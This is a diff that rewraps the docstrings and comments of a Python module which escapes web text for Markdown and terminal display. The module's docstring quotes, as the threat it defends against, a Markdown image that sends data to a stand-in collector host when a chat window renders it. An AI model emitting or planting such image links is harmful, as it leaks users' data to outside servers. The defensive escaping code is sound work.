@@ -1,8 +1,11 @@
-"""Escape text from the web so that it stays plain text where Markdown is rendered, and where a terminal shows it.
+"""Escape text from the web so that it stays plain text where Markdown is rendered, and
+where a terminal shows it.
 
-A title, a snippet or an answer may contain ``![](https://collector.example/?d=...)``, which a chat window loads as soon
-as it shows it. Escaping changes as little as possible, because the same text is also shown unrendered: it inserts a
-space where Markdown or HTML would begin. For whole pages of Markdown, see `websearch_core.reading._markdown.sanitizer`.
+A title, a snippet or an answer may contain ``![](https://collector.example/?d=...)``,
+which a chat window loads as soon as it shows it. Escaping changes as little as
+possible, because the same text is also shown unrendered: it inserts a space where
+Markdown or HTML would begin. For whole pages of Markdown, see
+`websearch_core.reading._markdown.sanitizer`.
 """
 
 from __future__ import annotations
@@ -11,21 +14,29 @@ from urllib.parse import quote, urlsplit
 
 from .invisible import strip_invisible
 
-# What begins a tag, a comment or an autolink (CommonMark 0.31, 6.5 and 6.6); "a < b" and "x <3" do not.
+# What begins a tag, a comment or an autolink (CommonMark 0.31, 6.5 and 6.6); "a < b"
+# and "x <3" do not.
 TAG = re.compile(r"<(?=[A-Za-z/!?]|[^\s<>@]{1,64}@)")
 _DEFINITION = re.compile(r"^(?:[ \t>*+-]|\d{1,9}[.)])*+\[", re.MULTILINE)
-_FENCE = re.compile(r"([`~])(?=\1\1)")  # a block of code would swallow the text shown after it
+# a block of code would swallow the text shown after it
+_FENCE = re.compile(r"([`~])(?=\1\1)")
 _NOT_IN_URLS = re.compile(r"""[\s<>"\\^`{|}\[\]\x00-\x20\x7f]""")
-_INERT = bytes(set(range(0x20, 0x7F)) - set(b"<[`~"))  # printable ASCII that nothing acts on
+# printable ASCII that nothing acts on
+_INERT = bytes(set(range(0x20, 0x7F)) - set(b"<[`~"))
 _NOT_IN_LINKS = re.compile(r"""[\s<>"\\^`{|}\[\]\x00-\x20\x7f()!'*]""")
-# Characters that would control a terminal, or change the direction of the text that follows.
+# Characters that would control a terminal, or change the direction of the text that
+# follows.
 _TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
-_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
+_LINE = re.compile(
+    "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
+)
 _IN_JSON = re.compile("[\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 
 
 def escape_text(text: str) -> str:
-    """Remove invisible characters from *text*, and break up whatever Markdown or HTML would act on."""
+    """Remove invisible characters from *text*, and break up whatever Markdown or HTML
+    would act on.
+    """
     if text.isascii() and not text.encode().translate(None, _INERT):
         return text  # as most are
     text = strip_invisible(text)[0]
@@ -39,7 +50,8 @@ def escape_text(text: str) -> str:
 
 
 def escape_url(url: str) -> str:
-    """Percent-encode the characters of *url* that RFC 3986 does not allow in a path, query or fragment.
+    """Percent-encode the characters of *url* that RFC 3986 does not allow in a path,
+    query or fragment.
 
     Markdown gives some of them a meaning.
     """
@@ -52,7 +64,9 @@ def escape_urls(urls: tuple[str, ...]) -> tuple[str, ...]:
 
 
 def link_target(url: str) -> str | None:
-    """Encode *url* as the target of a Markdown link, so that it cannot end the link; None unless absolute http(s)."""
+    """Encode *url* as the target of a Markdown link, so that it cannot end the link;
+    None unless absolute http(s).
+    """
     try:
         parts = urlsplit(url)
         if parts.scheme not in {"http", "https"} or not parts.hostname:
@@ -65,7 +79,8 @@ def link_target(url: str) -> str | None:
 def _percent_encode(unsafe: re.Pattern[str], url: str) -> str:
     scheme, separator, rest = url.partition("://")
     host, slash, path = rest.partition("/")
-    if not separator or not re.fullmatch(r"\[[0-9A-Fa-f:.]+\](?::\d*)?", host):  # keep the brackets of an IPv6 address
+    # keep the brackets of an IPv6 address
+    if not separator or not re.fullmatch(r"\[[0-9A-Fa-f:.]+\](?::\d*)?", host):
         host = unsafe.sub(quote_match, host)
     return f"{unsafe.sub(quote_match, scheme)}{separator}{host}{slash}{unsafe.sub(quote_match, path)}"
 
@@ -76,20 +91,28 @@ def quote_match(found: re.Match[str]) -> str:
 
 
 def join_lines(text: str) -> str:
-    """Join the lines of *text*: a name may contain a line that looks like one of the product."""
+    """Join the lines of *text*: a name may contain a line that looks like one of the
+    product.
+    """
     return " ".join(text.split())
 
 
 def strip_controls(text: str) -> str:
-    """Remove the characters of *text* that would control a terminal; ends of lines and tabs stay."""
+    """Remove the characters of *text* that would control a terminal; ends of lines and
+    tabs stay.
+    """
     return _TERMINAL.sub("", text)
 
 
 def escape_line(text: str) -> str:
-    """Escape the characters of *text* that would end the line, control a terminal or change the direction."""
+    """Escape the characters of *text* that would end the line, control a terminal or
+    change the direction.
+    """
     return _LINE.sub(lambda found: found[0].encode("unicode_escape").decode(), text)
 
 
 def escape_json(text: str) -> str:
-    """Escape the characters of a JSON *text* that would control a terminal, and lone surrogates."""
+    """Escape the characters of a JSON *text* that would control a terminal, and lone
+    surrogates.
+    """
     return _IN_JSON.sub(lambda found: f"\\u{ord(found[0]):04x}", text)
